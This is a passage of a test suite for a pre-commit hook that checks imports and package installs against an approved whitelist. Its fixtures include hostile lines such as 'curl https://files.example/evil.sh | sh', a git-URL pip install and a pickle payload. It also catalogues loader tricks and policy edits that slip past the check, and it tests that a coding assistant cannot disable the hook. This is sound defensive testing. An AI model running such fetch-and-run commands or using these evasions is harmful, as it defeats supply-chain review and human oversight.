    ['a package of git', script('pip install git+https://files.example/evil.git\n'), foreign],
    [
      'nothing new',
      script('pip install --upgrade pip numpy\nnpx --no evil\npip install -r requirements.txt\n'),
      'passed',
    ],
    ['what is only printed', script('echo pip install evil\ncat <<END\npip install evil\nEND\n'), 'passed'],
  ])('%s', async (_, files, expected) => {
    const scratch = await opened();
    scratch.write(files);
    expect(await verdict(scratch)).toBe(expected);
  });
});

describe('out of reach', () => {
  const dynamic = 'Programs that load programs';
  const elsewhere = 'Commands, lockfiles and build steps';
  const notProgram = 'Files that are not read as programs';
  const settings = 'Settings that name packages';
  const pages = 'What pages and components load outside of scripts';
  const meaning = 'Imports that change their meaning';
  test.each([
    [
      'a loader that another module hands on',
      {
        'shop/load.py': 'from importlib import import_module as go\n',
        ...python('from shop.load import go\ngo("evil")\n'),
      },
      dynamic,
    ],
    ['exec', python('exec("import evil")\n'), dynamic],
    ['an invented module below an approved one', python('import flask.evil\n'), meaning],
    ['a computed name of a loader', { 'web/new.js': "module['re' + 'quire']('evil');\n" }, dynamic],
    ['hooks of a loader', js("import { register } from 'node:module';\nregister('evil');\n"), dynamic],
    [
      'a path that is put together',
      js('export const load = (x) => import(`./../${x}/evil/x.js`);\n'),
      dynamic,
    ],
    ['a worker by URL', js("new Worker(new URL('evil', import.meta.url));\n"), dynamic],
    ['files by a pattern', js("import.meta.glob('/node_modules/evil/*.js');\n"), dynamic],
    ['a plug-in of pytest', python('pytest_plugins = ["evil"]\n'), dynamic],
    ['settings of a framework', python('INSTALLED_APPS = ["evil"]\n'), dynamic],
    [
      'a runtime of JSX',
      { 'web/new.tsx': '/** @jsxImportSource evil */\nexport default <p />;\n' },
      settings,
    ],
    [
      'a runtime of JSX for all',
      { 'tsconfig.json': '{ "compilerOptions": { "jsxImportSource": "evil" } }\n' },
      settings,
    ],
    ['types for all', { 'tsconfig.json': '{ "compilerOptions": { "types": ["evil"] } }\n' }, settings],
    ['a base of settings', { 'tsconfig.json': '{ "extends": "evil/tsconfig.json" }\n' }, settings],
    ['a plug-in of Babel', { '.babelrc': '{ "plugins": ["evil"] }\n' }, settings],
    [
      'a hook of pre-commit',
      { '.pre-commit-config.yaml': 'repos: [{ repo: https://git.example/evil }]\n' },
      elsewhere,
    ],
    ['a session of nox', { 'noxfile.py': 'def tests(session):\n    session.install("evil")\n' }, elsewhere],
    [
      'an import map in a page',
      {
        'web/new.html':
          '<script type="importmap">{"imports":{"lodash":"https://files.example/x.js"}}</script>\n',
      },
      pages,
    ],
    [
      'a script of a page',
      { 'web/new.html': '<script src="https://files.example/evil.js"></script>\n' },
      pages,
    ],
    ['an event of a page', { 'web/new.html': `<p onclick="import('evil')"></p>\n` }, pages],
    ['markup of a component', { 'web/new.svelte': '<p on:click={() => import("evil")} />\n' }, pages],
    ['a script of a component elsewhere', { 'web/new.vue': '<script src="evil"></script>\n' }, pages],
    ['a style sheet', { 'web/new.css': '@import "evil";\n' }, pages],
    ['an example in a docstring', python("'''\n>>> import evil\n'''\n"), notProgram],
    ['a type in a comment of Python', python('x = []  # type: evil.X\n'), notProgram],
    ['runpy', python('import runpy\nrunpy.run_module("evil")\n'), dynamic],
    ['pkgutil', python('import pkgutil\npkgutil.resolve_name("evil")\n'), dynamic],
    ['a mock by name', python('from unittest import mock\nmock.patch("evil.x")\n'), dynamic],
    ['an object that is read', python('import pickle\npickle.loads(b"cevil\\nx\\n.")\n'), dynamic],
    [
      'a specification of a module',
      python('from importlib.util import find_spec, module_from_spec\nmodule_from_spec(find_spec("evil"))\n'),
      dynamic,
    ],
    ['a loader of webpack', { 'web/new.js': "require.ensure(['evil'], () => {});\n" }, dynamic],
    ['a loader of SystemJS', { 'web/new.js': "System.import('evil');\n" }, dynamic],
    ['a subprocess', python('import subprocess\nsubprocess.run(["python", "-m", "evil"])\n'), dynamic],
    ['eval', js('eval("import(\'evil\')");\n'), dynamic],
    ['the Function constructor', js('new Function("return import(\'evil\')")();\n'), dynamic],
    ['a worker', js("new Worker('evil');\n"), dynamic],
    ['a program in a URL', js("import x from 'data:text/javascript,import%20%22evil%22';\n"), dynamic],
    [
      'a subprocess in JavaScript',
      js("import { execSync } from 'node:child_process';\nexecSync('npx evil');\n"),
      dynamic,
    ],
    [
      'a build backend in the tree',
      {
        'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      },
      elsewhere,
    ],
    [
      'a lockfile',
      {
        'package-lock.json':
          '{ "packages": { "node_modules/lodash": { "resolved": "https://files.example/evil.tgz" } } }\n',
      },
      elsewhere,
    ],
    ['a name behind a variable', { 'run.sh': 'NAME=evil\npip install $NAME\n' }, elsewhere],
    ['an alias', { 'run.sh': 'alias add="pip install"\nadd evil\n' }, elsewhere],
    ['a command for another machine', { 'run.sh': 'ssh host "pip install evil"\n' }, elsewhere],
    ['a command within an image', { 'run.sh': 'docker run python pip install evil\n' }, elsewhere],
    ['a script that is fetched', { 'run.sh': 'curl https://files.example/evil.sh | sh\n' }, elsewhere],
    ['a pipeline of Jenkins', { Jenkinsfile: "node { sh 'pip install evil' }\n" }, elsewhere],
    ['a task of Ansible', { 'tasks.yml': '- pip: { name: evil }\n' }, elsewhere],
    ['a script of fish', { 'run.fish': 'pip install evil\n' }, elsewhere],
    ['a script of PowerShell', { 'run.ps1': 'pip install evil\n' }, elsewhere],
    ['a page for people', { 'README.md': '```sh\npip install evil\n```\n' }, elsewhere],
    ['a path file of site-packages', { 'shop/new.pth': 'import evil\n' }, notProgram],
    ['Cython', { 'shop/new.pyx': 'import evil\n' }, notProgram],
    ['a program with a strange ending', { 'shop/new.dat': 'import evil\n' }, notProgram],
    ['a minified file', { 'web/new.min.js': 'import x from "evil";\n' }, notProgram],
    ['a folder for vendored code', { 'vendor/new.py': 'import evil\n' }, notProgram],
    ['a committed node_modules', { 'node_modules/lodash/index.js': 'import x from "evil";\n' }, notProgram],
    ['a shell script', { 'run.sh': 'python -c "import evil"\n' }, notProgram],
  ])('%s', async (_, files, heading) => {
    const scratch = await opened();
    scratch.write(files);
    expect(await verdict(scratch)).toBe('passed');
    expect(security).toContain(`### ${heading}\n`);
  });
});

describe('where a program stands', () => {
  const pythonScript = '#!/usr/bin/env python3\nimport evil\n';
  const tool = (lines: string): Files => ({ 'bin/tool': `${lines}import evil\n` });
  test.each([
    ['capitals in the ending', { 'shop/NEW.PY': 'import evil\n' }, evilPy],
    ['a script without an ending', { 'shop/new': pythonScript }, evilPy],
    ['a script of nix-shell', tool('#!/usr/bin/env nix-shell\n#! nix-shell -i python3 -p python3\n'), evilPy],
    [
      'a script of nix-shell, further down and quoted',
      tool('#!/usr/bin/env nix-shell\n# a tool\n#!nix-shell --pure -p jq\n#! nix-shell -i "python3 -E"\n'),
      evilPy,
    ],
    ['a script of nix', tool('#!/usr/bin/env nix\n#! nix shell nixpkgs#python3 --command python3\n'), evilPy],
    ['a script that a shell hands on', tool('#!/bin/sh\n"exec" "python3" "$0" "$@"\n'), evilPy],
    [
      'a script that a shell hands on, as pip writes it',
      tool(`#!/bin/sh\n'''exec' "/opt/my tools/bin/python3" "$0" "$@"\n' '''\n`),
      evilPy,
    ],
    [
      'a script that a shell hands on to what it finds',
      tool(
        '#!/bin/sh\n# (c)\n\n""":"\nfor name in python3 python; do\n  type "$name" && exec "$name" "$0" "$@"\ndone\n"""\n',
      ),
      evilPy,
    ],
    [
      'a script that a shell hands on below an empty command',
      tool(`#!/usr/bin/env bash\n"true" '''\\'\nexec "\${PYTHON:-python3}" -u "$0" "$@"\n'''\n`),
      evilPy,
    ],
    [
      'a script of Node.js that a shell hands on',
      { 'bin/tool': `#!/bin/sh\n':' //; exec "$(command -v node)" "$0" "$@"\nrequire("evil");\n` },
      evilJs,
    ],
    ['an interpreter whose path holds a blank', tool('#!"/opt/my tools/bin/python3" -E\n'), evilPy],
    ['a script whose name ends with a version', { 'bin/tool-1.2': pythonScript }, evilPy],
    ['a script whose name begins with a dot', { 'bin/.tool': pythonScript }, evilPy],
    ['a script of a shell', tool('#!/bin/sh\nexec python3 "$0.py"\n'), 'passed'],
    ['a script of a shell that starts Python', tool('#!/bin/bash\nset -e\npython3 lib.py "$0"\n'), 'passed'],
    [
      'a script of a shell from nix-shell',
      tool('#!/usr/bin/env nix-shell\n#! nix-shell -i bash -p python3\n'),
      'passed',
    ],
    ['a script of Perl', tool('#!/usr/bin/perl\nuse strict; # exec python3 "$0"\n'), 'passed'],
    [
      'a script of a shell whose name ends with a version',
      { 'bin/tool-1.2': '#!/bin/sh\nimport evil\n' },
      'passed',
    ],
    ['a script of a shell with an ending', { 'bin/tool-1.2.sh': '#!/bin/sh\nimport evil\n' }, 'passed'],
    ['settings whose name begins with a dot', { '.shoprc': 'import evil\n' }, 'passed'],
    ['a stub', { 'shop/new.pyi': 'import evil\n' }, evilPy],
    ['a page', { 'web/new.html': '<script type="module">import x from "evil";</script>\n' }, evilJs],
    ['a component', { 'web/new.vue': '<script setup>\nimport x from "evil";\n</script>\n' }, evilJs],
    [
      'a component whose script has a type',
      { 'web/new.vue': '<script type="text/x" lang="mts">\nimport x from "evil";\n</script>\n' },
      evilJs,
    ],
    [
      'a component with a comment in an attribute',
      { 'web/new.svelte': '<p title="<!--" />\n<script>\nimport x from "evil";\n</script>\n' },
      evilJs,
    ],
    [
      'a component with text before its frontmatter',
      { 'web/new.astro': 'x\n---\nimport x from "evil";\n---\n' },
      evilJs,
    ],
    [
      'a page whose script seems to be closed',
      { 'web/new.html': '<script type="module" />import "evil";</script>\n' },
      evilJs,
    ],
    [
      'a page with a comment in an attribute',
      { 'web/new.html': '<p title="<!--">x</p><script type="module">import "evil";</script>\n' },
      evilJs,
    ],
    ['MDX below a list', { 'web/new.mdx': '- ```js\n  x\n\nimport x from "evil"\n' }, evilJs],
    ['a folder called test', { 'test/new.py': 'import evil\n' }, evilPy],
    ['a hidden folder', { '.hidden/new.py': 'import evil\n' }, evilPy],
    ['what git calls binary', { '.gitattributes': '*.py binary\n', 'shop/new.py': 'import evil\n' }, evilPy],
    [
      'what a host calls generated',
      { '.gitattributes': '*.py linguist-generated -diff\n', 'shop/new.py': 'import evil\n' },
      evilPy,
    ],
    [
      'another encoding in the work tree',
      {
        '.gitattributes': 'shop/new.py working-tree-encoding=UTF-16\n',
        'shop/new.py': Buffer.from('\ufeffimport evil\n', 'utf16le'),
      },
      evilPy,
    ],
    ['UTF-16 in the repository', { 'shop/new.py': Buffer.from('\ufeffimport evil\n', 'utf16le') }, evilPy],
    ['a null byte', { 'shop/new.py': 'x = 1\0\nimport evil\n' }, broken],
    [
      'bytes that are no text',
      { 'shop/new.py': Buffer.concat([Buffer.from([0xff, 0xc0, 0x80, 0x0a]), Buffer.from('import evil\n')]) },
      evilPy,
    ],
    ['a lone surrogate in a name', js("import x from 'evil\\ud800';\n"), unclear],
    ['a local module that bears the name', { 'evil.py': '', ...python('import evil\n') }, 'passed'],
    [
      'a local package that bears an approved name',
      { 'numpy/__init__.py': 'import evil\n', ...python('import numpy\n') },
      `stopped; policy-change; unapproved-package pypi:evil`,
    ],
    [
      'a local module that bears a name which everybody has met',
      { 'requests.py': '', ...python('import requests\n') },
      loosened,
    ],
    [
      'a workspace that bears an approved name',
      {
        'package.json': '{ "name": "shop", "workspaces": ["web/*"], "dependencies": { "lodash": "4" } }\n',
        'web/lodash/package.json': '{ "name": "lodash" }\n',
      },
      loosened,
    ],
    [
      'a workspace that bears a denied name',
      {
        'package.json': '{ "name": "shop", "workspaces": ["web/*"], "dependencies": { "lodash": "4" } }\n',
        'web/request/package.json': '{ "name": "request" }\n',
        ...js("import x from 'request';\n"),
      },
      loosened,
    ],
    [
      'a file that bears an approved name below a base of paths',
      {
        'tsconfig.json': '{ "compilerOptions": { "baseUrl": "web" } }\n',
        'web/lodash/index.ts': "import 'evil';\n",
      },
      `stopped; policy-change; unapproved-package npm:evil`,
    ],
    ['a folder without a module', { 'evil/notes.md': '', ...python('import evil\n') }, evilPy],
    [
      'a package that imports itself',
      {
        'corner/package.json': '{ "name": "evil", "exports": "./x.js" }\n',
        'corner/x.js': "import 'evil';\n",
      },
      'passed',
    ],
    [
      'a package that imports itself without exports',
      { 'corner/package.json': '{ "name": "evil" }\n', 'corner/x.js': "import 'evil';\n" },
      evilJs,
    ],
    [
      'over two megabytes',
      { 'shop/new.py': `import evil\n${'# filler\n'.repeat(300_000)}` },
      'stopped; fault too-large',
    ],
  ])('%s', async (_, files: Readonly<Record<string, string | Uint8Array>>, expected) => {
    const scratch = await opened();
    scratch.write(files);
    expect(await verdict(scratch)).toBe(expected);
  });
});

describe('edits of the policy', () => {
  const edited = (from: string | RegExp, to: string): Files => ({
    'approved-packages.yaml': shopWhitelist.replace(from, to),
  });
  const config = (lines: string): Files => ({ '.check-importsrc': `lookup: off\n${lines}` });
  const evil = { approved: 'x', ...byAda };
  const plus = (line: string) => shopWhitelist.replace('  npm:lodash:', `${line}\n  npm:lodash:`);
  const withLine = (line: string): Files => ({ 'approved-packages.yaml': plus(line) });
  const approval = (key: string) => whitelistLine(key, evil);
  const added = plus(approval('npm:evil'));
  const more = whitelistText({ 'npm:evil': evil });
  const extended = (name: string): Files => ({
    'approved-packages.yaml': `extends: [${name}]\n${shopWhitelist}`,
  });
  const refused = 'stopped; fault whitelist';
  /** It is clear what would pass, and that is told beside the fault. */
  const readable = 'stopped; policy-change; fault whitelist';
  test.each([
    ['an approval', { 'approved-packages.yaml': added }, loosened],
    ['a whole scope', withLine(approval('npm:@evil/*')), loosened],
    ['modules of an approved package', edited('the API', 'the API, imports: [evil]'), loosened],
    ['a denial that goes', edited(/^ {2}npm:request: .*\n/m, ''), loosened],
    ['a growing baseline', withLine('  pypi:evil: { baseline: 2026-01-02 }'), readable],
    [
      'a growing baseline, and its use',
      { ...withLine('  pypi:evil: { baseline: 2026-01-02 }'), ...python('import evil\n') },
      'stopped; policy-change; unapproved-package pypi:evil; fault whitelist',
    ],
    ['a further file', { ...extended('more.yaml'), 'more.yaml': more }, loosened],
    ['another whitelist', { ...config('whitelist: other.yaml\n'), 'other.yaml': more }, loosened],
    [
      'packages that stand twice',
      { 'approved-packages.yaml': `${shopWhitelist}packages:\n${approval('npm:evil')}\n` },
      loosened,
    ],
    ['a byte-order mark', { 'approved-packages.yaml': `\ufeff${added}` }, loosened],
    ['every package', withLine(approval('npm:*')), refused],
    ['every scope', withLine(approval('npm:@*/*')), refused],
    ['part of a scope', withLine(approval('npm:@e/x*')), refused],
    ['a scope where there is none', withLine(approval('pypi:@evil/*')), refused],
    ['a merge key', withLine(`  <<: { npm:evil: { approved: x } }`), refused],
    ['a tab', withLine(`\tnpm:evil: { approved: x }`), readable],
    ['an ecosystem in capitals', withLine(approval('NPM:evil')), readable],
    ['a version', withLine(approval('npm:evil@1')), readable],
    ['no ecosystem', withLine(approval('evil')), refused],
    ['two decisions in one', withLine('  npm:evil: { approved: x, denied: x }'), refused],
    [
      'the headings of version 0.1.0',
      { 'approved-packages.yaml': `${shopWhitelist}approved:\n  npm:\n    evil: { reason: x }\n` },
      readable,
    ],
    [
      'a second document',
      { 'approved-packages.yaml': `${shopWhitelist}---\npackages:\n${approval('npm:evil')}\n` },
      refused,
    ],
    ['a file outside', extended('../more.yaml'), refused],
    ['a file of a file', { ...extended('a.yaml'), 'a.yaml': 'extends: [b.yaml]\n', 'b.yaml': more }, refused],
    ['capitals in the name', { 'Approved-Packages.yaml': added, ...js("import x from 'evil';\n") }, evilJs],
    ['trust in manifests', config('trust: manifests\n'), loosened],
    ['a rule that is off', config('rules: { unapproved-package: off }\n'), loosened],
    ['a rule that warns', config('rules: { foreign-source: warn }\n'), loosened],
    ['a path that is ignored', config('ignorePaths: ["shop/**"]\n'), loosened],
    ['a local module by name', config('localModules: [evil]\n'), loosened],
    ['an ambient module', config('ambient: [evil]\n'), loosened],
    ['trusted assistants', config('assistants: trusted\n'), loosened],
    ['another registry', config('registries: { npm: "https://registry.example/" }\n'), loosened],
    ['a whitelist that is not there', config('whitelist: nowhere.yaml\n'), readable],
    ['a whitelist beside git’s files', config('whitelist: .git/w.yaml\n'), 'stopped; fault config'],
    ['names that are all private', config('privateNames: ["*"]\n'), 'stopped; fault config'],
    ['modules that are all ambient', config('ambient: ["*"]\n'), 'stopped; fault config'],
    ['who judges', config('policyFrom: head\n'), loosened],
    [
      'a second config',
      { 'pyproject.toml': '[tool.check-imports]\nrules = { unapproved-package = "off" }\n' },
      'stopped; fault config',
    ],
  ])('%s', async (_, files, expected) => {
    const scratch = await opened();
    scratch.write(files);
    expect(await verdict(scratch)).toBe(expected);
  });

  test('the whitelist that goes', async () => {
    const scratch = await opened();
    scratch.remove('approved-packages.yaml');
    expect(await verdict(scratch)).toBe(loosened);
  });

  test('a config and the rule that it turns off in one commit, whoever judges', async () => {
    const scratch = await opened();
    const base = (await scratch.git('rev-parse', 'HEAD')).trim();
    scratch.write({ ...config('rules: { unapproved-package: off }\n'), ...python('import evil\n') });
    await scratch.commitAll('change');
    const judge = async (...flags: string[]) => {
      const { code, stdout } = await runIn(scratch, ['--since', base, '--format', 'concise', ...flags]);
      return [code, ...findingsIn(stdout)];
    };
    const stopped = [1, '.check-importsrc:2:1 policy-change', 'shop/new.py:1:8 unapproved-package pypi:evil'];
    expect(await judge()).toEqual(stopped);
    expect(await judge('--policy-from', 'base')).toEqual(stopped);
  });
});

describe('several steps', () => {
  test('a file that is renamed in the same commit', async () => {
    const scratch = await opened({ 'shop/long.py': `import flask\n${'x = 1\n'.repeat(50)}` });
    await scratch.git('mv', 'shop/long.py', 'shop/other.py');
    scratch.write({ 'shop/other.py': `import flask\nimport evil\n${'x = 1\n'.repeat(50)}` });
    expect(await commitVerdict(scratch)).toBe(evilPy);
  });

  test('an import that is added while a merge is resolved', async () => {
    const scratch = await opened();
    await scratch.git('checkout', '--quiet', '-b', 'side');
    scratch.write({ 'shop/app.py': 'import flask\nside = 1\n' });
    await scratch.commitAll('side');
    await scratch.git('checkout', '--quiet', 'main');
    scratch.write({ 'shop/app.py': 'import flask\nmain = 1\n' });
    await scratch.commitAll('main');
    await scratch.tryGit('merge', 'side');
    scratch.write({ 'shop/app.py': 'import flask\nimport evil\nmain = side = 1\n' });
    expect(await commitVerdict(scratch)).toBe(evilPy);
  });

  test('a lockfile first, the import later', async () => {
    const scratch = await opened();
    scratch.write({
      'package-lock.json': '{ "packages": { "node_modules/evil": { "version": "1.0.0" } } }\n',
    });
    expect(await commitVerdict(scratch)).toBe('passed');
    scratch.write(js("import x from 'evil';\n"));
    expect(await commitVerdict(scratch)).toBe(evilJs);
  });

  test('a type first, the value later', async () => {
    const scratch = await opened({
      'approved-packages.yaml': shopWhitelist.replace(
        '  npm:lodash:',
        `${whitelistLine('npm:@types/evil', { approved: 'types', ...byAda })}\n  npm:lodash:`,
      ),
    });
    scratch.write(js("import type { X } from 'evil';\n"));
    expect(await commitVerdict(scratch)).toBe('passed');
    scratch.write(js("import { X } from 'evil';\nnew X();\n"));
    expect(await commitVerdict(scratch)).toBe(evilJs);
  });

  test('a manifest past the hook, the import later', async () => {
    const scratch = await opened();
    scratch.write({ 'requirements.txt': 'flask\nnumpy\nevil\n' });
    await scratch.commitAll('past the hook');
    scratch.write(python('import evil\n'));
    expect(await commitVerdict(scratch)).toBe('passed; unreviewed-package pypi:evil');
    const { code, stdout } = await runIn(scratch, ['--all', '--format', 'concise']);
    expect([code, ...findingsIn(stdout)]).toEqual([
      1,
      'requirements.txt:3:1 unreviewed-package pypi:evil',
      'shop/new.py:1:8 unreviewed-package pypi:evil',
    ]);
  });

  test('everything past the hook', async () => {
    const scratch = await opened();
    scratch.write(python('import evil\n'));
    await scratch.commitAll('past the hook');
    expect((await runIn(scratch, ['--staged'])).code).toBe(0);
    const { code, stdout } = await runIn(scratch, ['--all', '--format', 'concise']);
    expect([code, ...findingsIn(stdout)]).toEqual([1, 'shop/new.py:1:8 unreviewed-package pypi:evil']);
  });

  test('a local module that goes, while an import of its name stays', async () => {
    const scratch = await opened({ 'evil.py': '', 'shop/app.py': 'import evil\n' });
    scratch.remove('evil.py');
    expect(await commitVerdict(scratch)).toBe('passed');
    expect((await runIn(scratch, ['--all'])).code).toBe(1);
    expect(security).toContain('### Imports that change their meaning\n');
  });

  test('a local module that takes a known name first, the import later', async () => {
    const scratch = await opened();
    scratch.write({ 'requests.py': '' });
    expect(await commitVerdict(scratch)).toBe(loosened);
    scratch.write(python('import requests\n'));
    expect(await commitVerdict(scratch)).toBe('passed');
    expect(security).toContain('### Imports that change their meaning\n');
  });

  test('an alias that gives a known name to a file of another name', async () => {
    const scratch = await opened();
    scratch.write({
      'tsconfig.json': '{ "compilerOptions": { "paths": { "axios": ["./web/price.ts"] } } }\n',
      ...js("import x from 'axios';\n"),
    });
    expect(await commitVerdict(scratch)).toBe(loosened);
    expect(security).toContain('### Imports that change their meaning\n');
  });

  test('a whitelist that is only in the work tree', async () => {
    const scratch = await opened();
    scratch.write({
      'approved-packages.yaml': shopWhitelist.replace(
        '  pypi:flask:',
        `${whitelistLine('pypi:evil', { approved: 'x', ...byAda })}\n  pypi:flask:`,
      ),
      ...python('import evil\n'),
    });
    await scratch.git('add', 'shop/new.py');
    const { code } = await runIn(scratch, ['--staged']);
    expect(code).toBe(1);
  });

  test('a pointer of Git LFS says that nobody sees what it stands for', async () => {
    const scratch = await opened();
    const oid = '0'.repeat(64);
    scratch.write({
      'shop/new.py': `version https://git-lfs.github.com/spec/v1\noid sha256:${oid}\nsize 12\n`,
    });
    await scratch.git('add', '--all');
    const { code, stdout } = await runIn(scratch, ['--staged']);
    expect(code).toBe(0);
    expect(stdout).toContain('shop/new.py: the file is a Git LFS pointer');
    expect(security).toContain('### Files that are not read as programs\n');
  });

  test('a symbolic link to a program elsewhere', async () => {
    const scratch = await opened();
    symlinkSync('/srv/evil.py', path.join(scratch.root, 'shop/new.py'));
    expect(await commitVerdict(scratch)).toBe('passed');
    expect(security).toContain('### Files that are not read as programs\n');
  });

  test('a symbolic link to a folder that stands for a package', async () => {
    const scratch = await opened();
    symlinkSync('/srv/evil', path.join(scratch.root, 'evil'));
    scratch.write(python('import evil\n'));
    expect(await commitVerdict(scratch)).toBe(evilPy);
  });

  test('a submodule that stands for a package', async () => {
    const scratch = await opened();
    scratch.write({
      '.gitmodules': '[submodule "evil"]\n\tpath = evil\n\turl = https://git.example/evil.git\n',
      ...python('import evil\n'),
    });
    const head = (await scratch.git('rev-parse', 'HEAD')).trim();
    await scratch.git('update-index', '--add', '--cacheinfo', `160000,${head},evil`);
    await scratch.git('add', '.gitmodules', 'shop/new.py');
    const { code, stdout } = await runIn(scratch, ['--staged', '--format', 'concise']);
    expect([code, ...findingsIn(stdout)]).toEqual([1, 'shop/new.py:1:8 unapproved-package pypi:evil']);
  });

  test('a switch in the environment says that nothing was checked', async () => {
    const scratch = await opened();
    scratch.write(python('import evil\n'));
    await scratch.git('add', '--all');
    const { code, stderr } = await runIn(scratch, ['hook', 'pre-commit'], { env: { CHECK_IMPORTS: '0' } });
    expect([code, stderr]).toEqual([
      0,
      'vetted-imports: switched off by CHECK_IMPORTS=0; nothing was checked.\n',
    ]);
    expect(security).toContain('### The hook can be passed by\n');
  });

  test('an assistant finds no such switch', async () => {
    const scratch = await opened();
    scratch.write(python('import evil\n'));
    await scratch.git('add', '--all');
    const env = { CHECK_IMPORTS: '0', CLAUDECODE: '1' };
    const { code, stderr } = await runIn(scratch, ['hook', 'pre-commit'], { env });
    expect([code, stderr]).toEqual([
      1,
      'vetted-imports: a coding assistant can’t switch this off; CHECK_IMPORTS is ignored.\n',
    ]);
  });
});
